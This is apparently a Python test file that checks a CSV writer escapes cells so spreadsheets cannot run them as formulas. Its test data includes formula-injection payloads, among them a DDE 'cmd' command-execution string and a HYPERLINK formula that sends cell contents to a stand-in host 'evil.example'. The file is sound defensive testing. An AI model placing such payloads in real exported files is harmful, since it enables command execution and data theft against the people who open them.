"""A table is read back as it was given, and no cell of it is a formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from dovetail.compose.escape import visible
from dovetail.formats.csv_text import Value, csv_bytes, guarded

FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", '"=1', "'=1", " \"'\t-1", "=cmd|' /C calc'!A0",
    "\u00a0=1", "\ufeff=1", "\u200b=1", "\uff1d1", "\u2212" + "1", "\tx", "\rx", "-", "a;=1", "a;-1;+2", "a\n=1", "a\t@x",
    "a; \"=1", '=HYPERLINK("http://evil.example?"&A1)', "- one\n- two",
)  # fmt: skip
PIECES = st.sampled_from(
    [
        *"=+-@;,'\"|!\t\r\n ab1",
        "\r\n",
        "\u00a0",
        "\u202e",
        "\x00",
        "\x1b",
        "\ud800",
        "\uff1d",
        "é",
        "日",
        "🙂",
        "\u2028",
    ]
)
TEXTS = st.one_of(st.lists(PIECES, max_size=8).map("".join), st.text(max_size=20))
NUMBERS = st.one_of(
    st.integers(-(10**20), 10**20), st.decimals(allow_nan=False, allow_infinity=False, places=2)
)
CELLS: st.SearchStrategy[Value] = st.one_of(TEXTS, NUMBERS, st.dates(), st.booleans(), st.none())


def read(data: bytes, delimiter: str = ",") -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def is_formula(cell: str) -> bool:
    """As the most generous spreadsheet would have it; a number is no formula."""
    if re.fullmatch(r"-?[0-9]+(?:\.[0-9]+)?", cell):
        return False
    return cell[:1] in ("\t", "\r", "\n") or bool(
        re.match(r"""[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]""", cell)
    )


def as_shown(value: Value) -> str:
    match value:
        case None:
            return ""
        case bool():
            return "yes" if value else "no"
        case str():
            return guarded(value)
        case date():
            return value.isoformat()
        case int():
            return str(value)
    return f"{value:f}"


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_compute_is_text(text: str) -> None:
    cell = read(csv_bytes(["What"], [[text]]))[1][0]
    assert not is_formula(cell)
    assert cell != text
    assert cell.replace("'", "") == visible(text).replace("'", "")


@pytest.mark.parametrize("text", FORMULAS)
def test_nor_does_one_that_splits_cells_at_semicolons_or_tabs_find_a_formula(text: str) -> None:
    for delimiter in (";", "\t"):
        rows = read(csv_bytes(["A", "B"], [["x", text]]), delimiter)
        assert not any(is_formula(cell) for row in rows for cell in row)


@given(
    table=st.integers(1, 4).flatmap(lambda n: st.lists(st.lists(CELLS, min_size=n, max_size=n), min_size=1))
)
@example(table=[["=1", -1, Decimal("-1.50"), None]])
def test_what_is_read_back_is_what_was_given(table: list[list[Value]]) -> None:
    header = [f"column {number}" for number in range(len(table[0]))]
    shown = [[as_shown(cell) for cell in row] for row in table]
    assert read(csv_bytes(header, table)) == [header, *shown]


@given(text=TEXTS)
def test_a_text_keeps_every_character_but_the_hidden_ones(text: str) -> None:
    assert guarded(text).replace("'", "") == visible(text).replace("'", "")
    assert not is_formula(guarded(text))


@given(text=st.text(st.characters(categories=["L", "N", "Zs"]), max_size=20))
def test_an_ordinary_text_is_left_alone(text: str) -> None:
    assert guarded(text) == text


def test_numbers_and_days_stay_what_they_are() -> None:
    row: list[Value] = [-5, Decimal("-1234.50"), Decimal("1E+3"), date(2026, 5, 12), True, None, "-5"]
    assert csv_bytes(list("abcdefg"), [row], bom=False) == (
        b'"a","b","c","d","e","f","g"\r\n-5,-1234.50,1000,2026-05-12,yes,,"\'-5"\r\n'
    )


def test_the_mark_of_utf_8_can_be_left_out() -> None:
    assert csv_bytes(["é"], []) == b'\xef\xbb\xbf"\xc3\xa9"\r\n'
    assert csv_bytes(["é"], [], bom=False) == b'"\xc3\xa9"\r\n'


def test_text_that_hides_is_written_out() -> None:
    assert guarded("a\u202egnp.exe\x1b[2J") == "a[U+202E]gnp.exe[U+001B][2J"


def test_a_ragged_table_and_what_is_no_value_are_refused() -> None:
    with pytest.raises(ValueError, match="row 2 has 1 cells under 2 headings"):
        csv_bytes(["a", "b"], [["x", "y"], ["x"]])
    with pytest.raises(ValueError, match="NaN"):
        csv_bytes(["a"], [[Decimal("NaN")]])
    with pytest.raises(TypeError, match="float"):
        csv_bytes(["a"], [[1.5]])  # type: ignore[list-item]
